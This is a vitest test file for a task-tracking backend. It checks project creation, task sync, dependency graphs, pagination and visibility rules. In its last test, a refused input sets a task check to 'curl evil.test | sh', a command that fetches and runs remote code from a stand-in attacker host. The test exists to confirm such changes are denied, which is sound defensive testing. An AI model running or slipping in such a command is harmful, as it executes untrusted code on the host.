import { fileURLToPath } from 'node:url'
import { uuidv7 } from '@alkdev/std'
import { readTaskDirectory, TaskGraph } from '@alkdev/taskgraph'
import { createTestDatabase } from '@alkdev/testing'
import type { TestDatabase } from '@alkdev/testing'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openDatabase } from '../database/open-database.ts'
import type { Database } from '../database/open-database.ts'
import { createAccount } from '../identity/accounts.ts'
import { createOrganization } from '../identity/organizations.ts'
import { ensureProject, findProject, listProjects } from '../projects/projects.ts'
import { getTask, listTasks, listVisibleTasks, loadTaskGraph } from './read-tasks.ts'
import { syncTasks } from './sync-tasks.ts'
import type { AuthoredTask } from './sync-tasks.ts'
import { claimTask } from './claim-task.ts'
import { inTransaction } from '../database/in-transaction.ts'

let database: TestDatabase
let opened: Database
let ownerId: string
const db = () => opened.db

beforeAll(async () => {
  database = await createTestDatabase()
  opened = await openDatabase(database.url)
  ownerId = (await createAccount(db(), { email: 'owner@example.com' })).id
})
afterAll(async () => {
  await opened.close()
  await database[Symbol.asyncDispose]()
})

const project = async () => (await ensureProject(db(), { slug: `p-${uuidv7()}`, ownerId })).id
const task = (slug: string, more: Partial<AuthoredTask> = {}): AuthoredTask => ({
  slug,
  name: slug,
  ...more,
})

test('a project is created on first use and found afterwards, also by eight concurrent callers', async () => {
  const made = await Promise.all(
    Array.from({ length: 8 }, () => ensureProject(db(), { slug: 'default', ownerId })),
  )
  expect(new Set(made.map((row) => row.id)).size).toBe(1)
  expect(made[0]).toMatchObject({ slug: 'default', name: 'default', vcs: 'git', orgId: null })
})

test('an account and an organization may use the same slug, and each sees its own project', async () => {
  const other = await createAccount(db(), { email: 'other@example.com' })
  const org = await createOrganization(db(), { name: 'guild', ownerId: other.id })
  const shared = await ensureProject(db(), { slug: 'site', ownerId: other.id, orgId: org.id })
  const own = await ensureProject(db(), { slug: 'site', ownerId })
  expect(shared.id).not.toBe(own.id)
  expect((await findProject(db(), 'site', { accountId: ownerId, orgIds: [org.id] }))?.id).toBe(
    own.id,
  )
  const outsider = { accountId: uuidv7(), orgIds: [] }
  expect(await findProject(db(), 'site', outsider)).toBeUndefined()
  const member = { accountId: uuidv7(), orgIds: [org.id] }
  expect((await listProjects(db(), { viewer: member })).items.map((row) => row.id)).toEqual([
    shared.id,
  ])
})

test('sync writes the authored columns, counts the changes, and has no effect when repeated', async () => {
  const projectId = await project()
  const full = task('b', {
    name: 'Second',
    path: 'tasks/b.md',
    scope: 'narrow',
    risk: 'high',
    impact: 'component',
    level: 'implementation',
    priority: 'low',
    tags: ['x', 'y'],
    assignee: 'ada',
    due: '2030-01-01',
    body: '# text',
    dependsOn: ['a'],
    touches: ['src/**'],
    checks: [{ name: 'types', command: 'npm run types', timeoutMs: 60_000 }],
    estimate: 1.5,
    fileModifiedAt: new Date('2030-01-02T00:00:00.123Z'),
  })
  const tasks = [task('a'), full]
  expect(await syncTasks(db(), { projectId, tasks })).toEqual({
    created: 2,
    updated: 0,
    unchanged: 0,
    removed: 0,
    kept: [],
    statusesImported: 0,
    dependencies: 1,
    unresolved: [],
  })
  expect(await getTask(db(), projectId, 'b')).toMatchObject({ ...full, status: 'pending' })
  expect(await getTask(db(), projectId, 'a')).toMatchObject({ scope: null, risk: null, tags: [] })
  expect(await syncTasks(db(), { projectId, tasks })).toMatchObject({
    unchanged: 2,
    dependencies: 1,
  })
  expect(
    await syncTasks(db(), { projectId, tasks: [task('a', { name: 'First' }), full] }),
  ).toMatchObject({ updated: 1, unchanged: 1 })
})

test('sync does not change status and times', async () => {
  const projectId = await project()
  await syncTasks(db(), { projectId, tasks: [task('a')] })
  const before = await getTask(db(), projectId, 'a')
  await inTransaction(db(), (tx) =>
    claimTask(tx, {
      taskId: before?.id ?? '',
      holder: { accountId: ownerId },
      expiresInMs: 60_000,
    }),
  )
  const started = await getTask(db(), projectId, 'a')
  await syncTasks(db(), { projectId, tasks: [task('a', { name: 'renamed' })] })
  expect(await getTask(db(), projectId, 'a')).toMatchObject({
    id: before?.id,
    name: 'renamed',
    status: 'in-progress',
    startedAt: started?.startedAt,
  })
})

test('dependencies become exactly the given ones, and those without a task are reported and omitted', async () => {
  const projectId = await project()
  const tasks = [task('a'), task('b'), task('c', { dependsOn: ['a', 'b', 'a', 'ghost'] })]
  expect(await syncTasks(db(), { projectId, tasks })).toMatchObject({
    dependencies: 2,
    unresolved: [{ from: 'ghost', to: 'c' }],
  })
  const dependencies = [{ from: 'b', to: 'c', qualityRetention: 0.5 }]
  expect(await syncTasks(db(), { projectId, tasks, dependencies })).toMatchObject({
    dependencies: 1,
  })
  const graph = await loadTaskGraph(db(), projectId)
  expect(graph.edges).toEqual(dependencies)
  expect(graph.tasks.map((row) => row.slug)).toEqual(['a', 'b', 'c'])
  expect(graph.tasks[2]).toMatchObject({ dependsOn: ['a', 'b', 'a', 'ghost'] })
  expect(graph.tasks[0]).not.toHaveProperty('body')
})

test('a subset of the tasks is synced without changing the others, unless they are to be pruned', async () => {
  const projectId = await project()
  await syncTasks(db(), {
    projectId,
    tasks: [task('a'), task('b', { dependsOn: ['a'] }), task('c')],
  })
  await syncTasks(db(), { projectId, tasks: [task('c', { dependsOn: ['b'] })] })
  expect((await loadTaskGraph(db(), projectId)).edges).toEqual([
    { from: 'a', to: 'b' },
    { from: 'b', to: 'c' },
  ])
  expect(await syncTasks(db(), { projectId, tasks: [task('b')], prune: true })).toMatchObject({
    removed: 2,
    dependencies: 0,
  })
  expect((await listTasks(db(), { projectId })).items.map((row) => row.slug)).toEqual(['b'])
})

test('a refused sync changes nothing', async () => {
  const projectId = await project()
  await syncTasks(db(), { projectId, tasks: [task('a')] })
  const renamed = task('a', { name: 'new' })
  await expect(syncTasks(db(), { projectId, tasks: [renamed, renamed] })).rejects.toMatchObject({
    code: 'VALIDATION_ERROR',
  })
  await expect(
    syncTasks(db(), { projectId, tasks: [renamed, task('b', { dependsOn: ['b'] })] }),
  ).rejects.toMatchObject({ code: 'VALIDATION_ERROR', message: 'A task cannot depend on itself.' })
  expect((await getTask(db(), projectId, 'a'))?.name).toBe('a')
  await expect(syncTasks(db(), { projectId: 'none', tasks: [] })).rejects.toMatchObject({
    code: 'CONFLICT',
  })
})

test('concurrent syncs of a project end with the complete result of one of them', async () => {
  const projectId = await project()
  const version = (n: number) => [
    task('a', { name: `v${n}` }),
    task('b', { name: `v${n}`, dependsOn: n % 2 === 0 ? ['a'] : [] }),
  ]
  await Promise.all(
    Array.from({ length: 8 }, (_, n) => syncTasks(db(), { projectId, tasks: version(n) })),
  )
  const [a, b] = [await getTask(db(), projectId, 'a'), await getTask(db(), projectId, 'b')]
  expect(a?.name).toBe(b?.name)
  expect((await loadTaskGraph(db(), projectId)).edges).toHaveLength(b?.dependsOn.length ?? -1)
})

test('tasks of different projects cannot depend on each other', async () => {
  const [one, two] = [await project(), await project()]
  await syncTasks(db(), { projectId: one, tasks: [task('a')] })
  await syncTasks(db(), { projectId: two, tasks: [task('b', { dependsOn: ['a'] })] })
  expect((await loadTaskGraph(db(), two)).edges).toEqual([])
  const [a, b] = [await getTask(db(), one, 'a'), await getTask(db(), two, 'b')]
  for (const projectId of [one, two]) {
    await expect(
      opened.sql`insert into task_dependencies (id, project_id, dependent_task_id, depends_on_task_id)
        values (${uuidv7()}, ${projectId}, ${b?.id ?? ''}, ${a?.id ?? ''})`,
    ).rejects.toMatchObject({ code: '23503' })
  }
})

test('tasks are listed by slug, filtered by status and tag', async () => {
  const projectId = await project()
  const tasks = ['d', 'a', 'c', 'b'].map((slug) =>
    task(slug, { tags: slug < 'c' ? ['early'] : [] }),
  )
  await syncTasks(db(), { projectId, tasks })
  const first = await listTasks(db(), { projectId, limit: 3 })
  const second = await listTasks(db(), { projectId, limit: 3, cursor: first.nextCursor ?? '' })
  expect([...first.items, ...second.items].map((row) => row.slug)).toEqual(['a', 'b', 'c', 'd'])
  const early = await listTasks(db(), { projectId, tag: 'early', status: 'pending' })
  expect(early.items.map((row) => row.slug)).toEqual(['a', 'b'])
  expect((await listTasks(db(), { projectId, status: 'failed' })).items).toEqual([])
})

test('tasks of all projects that an account may see are listed with their projects, and no others', async () => {
  const viewerId = (await createAccount(db(), { email: 'viewer@example.com' })).id
  const own = [
    await ensureProject(db(), { slug: 'one', ownerId: viewerId }),
    await ensureProject(db(), { slug: 'two', ownerId: viewerId }),
  ]
  const other = await ensureProject(db(), { slug: 'one', ownerId })
  for (const { id } of [...own, other])
    await syncTasks(db(), { projectId: id, tasks: [task('a'), task('b')] })
  const viewer = { accountId: viewerId, orgIds: [] }
  const first = await listVisibleTasks(db(), { viewer, limit: 3 })
  const { nextCursor: cursor = '' } = first
  const second = await listVisibleTasks(db(), { viewer, limit: 3, cursor })
  const seen = [...first.items, ...second.items].map(({ slug, project }) => `${slug} ${project}`)
  expect(seen.toSorted()).toEqual(['a one', 'a two', 'b one', 'b two'])
  expect(seen.map((one) => one[0])).toEqual(['a', 'a', 'b', 'b'])
  const found = await listVisibleTasks(db(), { viewer, q: 'B', status: 'pending' })
  expect(found.items).toHaveLength(2)
})

test('the task files of this repository sync, and return as the graph that they are', async () => {
  const projectId = await project()
  const folder = fileURLToPath(new URL('../../../../tasks', import.meta.url))
  const { files, problems } = await readTaskDirectory(folder)
  expect(problems).toEqual([])
  const given = files.map(({ path, body, task: { id: slug, ...authored } }) => ({
    ...authored,
    slug,
    path,
    body,
  }))
  const synced = await syncTasks(db(), { projectId, tasks: given })
  expect(synced).toMatchObject({ created: files.length, unresolved: [] })
  const { tasks, edges } = await loadTaskGraph(db(), projectId)
  const inputs = tasks.map((row) => ({ ...row, id: row.slug }))
  const graph = TaskGraph.fromRecords(inputs, [...edges])
  expect(graph.topologicalOrder()).toHaveLength(files.length)
  expect(edges).toHaveLength(synced.dependencies)
})

test('with keepChecks a sync changes text and touches, and neither adds, changes nor removes a check', async () => {
  const projectId = await project()
  const check = { name: 'types', command: 'npm run types' }
  await syncTasks(db(), { projectId, tasks: [task('a', { checks: [check] }), task('b')] })
  const keeping = (...tasks: AuthoredTask[]) =>
    syncTasks(db(), { projectId, tasks, keepChecks: true })
  for (const refused of [
    task('a', { checks: [{ ...check, command: 'curl evil.test | sh' }] }),
    task('a', { checks: [{ ...check, timeoutMs: 1 }] }),
    task('a'),
    task('b', { checks: [check] }),
    task('new', { checks: [check] }),
  ])
    // oxlint-disable-next-line no-await-in-loop -- one project
    await expect(keeping(task('c'), refused)).rejects.toMatchObject({
      code: 'ACCESS_DENIED',
      details: { slug: refused.slug },
    })
  expect(await keeping(task('a', { checks: [check], body: 'Other.' }), task('c'))).toMatchObject({
    created: 1,
    updated: 1,
  })
})
